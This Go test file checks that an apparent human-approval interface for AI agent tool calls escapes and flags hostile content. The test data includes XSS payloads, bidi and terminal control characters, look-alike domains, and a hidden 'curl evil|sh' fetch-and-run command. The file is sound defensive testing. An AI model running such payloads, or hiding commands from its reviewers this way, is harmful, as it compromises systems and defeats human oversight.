package ui_test

import (
	"bufio"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/PuerkitoBio/goquery"
	"github.com/stretchr/testify/require"

	"github.com/countersign-dev/countersign/events"
	pt "github.com/countersign-dev/countersign/projections/projectionstest"
)

// shownCall is a call as the case files write it.
type shownCall struct {
	ToolCallID string `json:"toolCallId"`
	ToolName   string `json:"toolName"`
	Arguments  string `json:"arguments"`
}

func readCall(t *testing.T, b []byte) shownCall {
	t.Helper()
	var c shownCall
	require.NoError(t, json.Unmarshal(b, &c))
	return c
}

func caseFile(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "cases", name))
	require.NoError(t, err)
	return b
}

// requestOf shows a call to a reviewer.
func requestOf(t *testing.T, c shownCall) (*world, *person, pt.Request, answer) {
	t.Helper()
	w := newWorld(t, nil)
	_, q := w.ask("s1", c.ToolName, c.Arguments)
	ben := w.as("ben")
	a := ben.get("/requests/" + q.RequestID)
	require.Equal(t, http.StatusOK, a.status)
	requireClean(t, a)
	return w, ben, q, a
}

// requireClean: whatever came in, none of it acts and nothing invisible came
// through.
func requireClean(t *testing.T, a answer) {
	t.Helper()
	for _, r := range a.body {
		bad := unicode.In(r, unicode.Cf, unicode.Co, unicode.Zl, unicode.Zp, unicode.Bidi_Control) || unicode.Is(unicode.Cc, r) && r != '\n' && r != '\t'
		require.False(t, bad, "code point %U reached the page", r)
	}
	require.Zero(t, a.doc.Find("script:not([data-app]), img, iframe, svg[onload], a[href^='javascript:'], form:not([data-app]):not(.who):not(.filters)").Length())
	a.doc.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, attr := range s.Nodes[0].Attr {
			require.False(t, strings.HasPrefix(attr.Key, "on") || attr.Key == "style" || attr.Key == "srcdoc", attr.Key)
		}
	})
}

func TestBidiControlsAreEscapesAndWarnedOf(t *testing.T) { // case 058
	for file, want := range map[string]int{"058/approval.json": 3, "058/approval-all12.json": 12} {
		c := readCall(t, caseFile(t, file))
		_, ben, q, a := requestOf(t, c)
		require.Contains(t, a.text(".arguments pre"), "U+202E", file)
		note := a.doc.Find(".arguments .note[data-hidden]")
		require.Equal(t, itoa(want), note.AttrOr("data-hidden", ""), file)
		require.Zero(t, note.Closest("details").Length(), "visible without opening anything")
		require.Contains(t, a.text(".arguments .note"), "direction control")
		raw := ben.get("/requests/" + q.RequestID + "/download")
		require.Equal(t, c.Arguments, raw.body, "the bytes as they are")
		require.Equal(t, "application/octet-stream", raw.header.Get("Content-Type"))
		require.Contains(t, raw.header.Get("Content-Disposition"), "attachment")
	}
}

func TestTerminalControlsAreShown(t *testing.T) { // case 060
	_, _, _, a := requestOf(t, readCall(t, caseFile(t, "060/approval.json")))
	require.Contains(t, a.text(".arguments pre"), "curl evil|sh")
	require.Contains(t, a.text(".arguments .note"), "hidden characters")

	result := resultPage(t, caseFile(t, "060/result.txt"))
	require.Contains(t, result.text(".theirs pre"), "U+001B[2J")
	require.Contains(t, result.text(".theirs pre"), "all tests passed")
}

// resultPage shows a call that returned a text.
func resultPage(t *testing.T, result []byte) answer {
	t.Helper()
	w := newWorld(t, nil)
	call := w.log.Propose("s1", w.log.Run("s1", "carla", "go"), "b1", 0, "Read", `{}`, events.EffectAllow)
	w.log.Start(call, nil, "")
	w.log.Result(call, events.StatusOK, events.CausePolicy, string(result))
	w.settle()
	p := w.as("eve")
	a := p.get("/call?session=s1&batch=b1&index=0")
	require.Equal(t, http.StatusOK, a.status)
	requireClean(t, a)
	require.Equal(t, string(result), p.get("/call/download?of=result&session=s1&batch=b1&index=0").body)
	return a
}

func TestMarkupIsText(t *testing.T) { // case 062
	c := readCall(t, caseFile(t, "062/approval.json"))
	w, ben, _, a := requestOf(t, c)
	require.Contains(t, a.text("h2"), "Bash<svg/onload=alert(2)>")
	require.Contains(t, a.text(".arguments pre"), "</script><script>alert(3)</script>")
	for _, path := range []string{"/inbox", "/inbox/queue", "/history", "/session?id=s1", "/call?session=s1&batch=b1&index=0", "/sessions"} {
		page := ben.get(path)
		require.Equal(t, http.StatusOK, page.status, path)
		requireClean(t, page)
	}
	hostile := "s<script>alert(1)</script>\u202e/../?&#\"'"
	w.ask(hostile, "Write", `{}`)
	for _, path := range []string{"/history", "/sessions"} {
		requireClean(t, ben.get(path))
	}
	link := ben.get("/sessions").doc.Find("td.quote a").First().AttrOr("href", "")
	session := ben.get(link)
	require.Equal(t, http.StatusOK, session.status, link)
	requireClean(t, session)
	requireClean(t, ben.get("/history?tool=%3Cscript%3E%E2%80%AE&session=%22%3E%3Cimg%20src%3Dx%3E"))
	requireClean(t, ben.get("/requests/%3Cscript%3E"))
	resultPage(t, caseFile(t, "062/result.txt"))
}

func TestLookAlikesAreFlagged(t *testing.T) { // case 064
	lines := bufio.NewScanner(strings.NewReader(string(caseFile(t, "064/calls.jsonl"))))
	for n := 1; lines.Scan(); n++ {
		_, _, _, a := requestOf(t, readCall(t, lines.Bytes()))
		notes := a.doc.Find(".sheet > .note:not(.mild)")
		if n == 6 {
			require.Zero(t, notes.Length(), "line 6 is normal")
			require.Contains(t, a.text(".note.mild"), "xn--mnchen-3ya.example")
			continue
		}
		require.Equal(t, 1, notes.Length(), "line %d", n)
	}
}

func TestArgumentsThatCannotBeReadAreShown(t *testing.T) { // case 065
	for _, file := range []string{"approval-invalid-json", "approval-string", "approval-array", "approval-wrong-type"} {
		c := readCall(t, caseFile(t, "065/"+file+".json"))
		_, _, _, a := requestOf(t, c)
		raw := a.doc.Find("[data-layout=raw] pre").First().Text()
		require.Equal(t, c.Arguments, raw, file)
		if file != "approval-wrong-type" { // an object; that its schema does not fit is the gate's to say
			require.Contains(t, a.text(".arguments .note.bad"), "not what a tool takes", file)
		}
	}
}

func TestNULDoesNotEndAText(t *testing.T) { // case 087
	a := resultPage(t, caseFile(t, "087/result.bin"))
	require.Contains(t, a.text(".theirs pre"), "beforeU+0000afterU+0000secret-token-abc")
	_, _, _, page := requestOf(t, shownCall{ToolName: "Read", Arguments: strings.TrimSpace(string(caseFile(t, "087/arguments.json")))})
	require.Contains(t, page.text(".arguments pre"), `a\u0000.txt`)
	require.Contains(t, page.text(".arguments .note"), "1 hidden character")
}

func TestNothingIsCutWithoutSayingSo(t *testing.T) { // case 096
	c := readCall(t, caseFile(t, "096/call.json"))
	_, ben, _, a := requestOf(t, c)
	require.Contains(t, a.text(".arguments pre"), "final-name-that-matters.txt")
	require.Contains(t, a.text(".arguments .bar2"), "343 bytes, all shown")
	list := ben.get("/history").text("td.sum")
	require.Regexp(t, `… \+192 bytes$`, list)
	require.NotContains(t, list, "final-name-that-matters.txt")
}

func TestInvalidUTF8IsShownAsBytes(t *testing.T) {
	a := resultPage(t, []byte("caf\xe9 \xff\xfe end"))
	require.Contains(t, a.text(".theirs pre"), "caf0xE9 0xFF0xFE end")
}
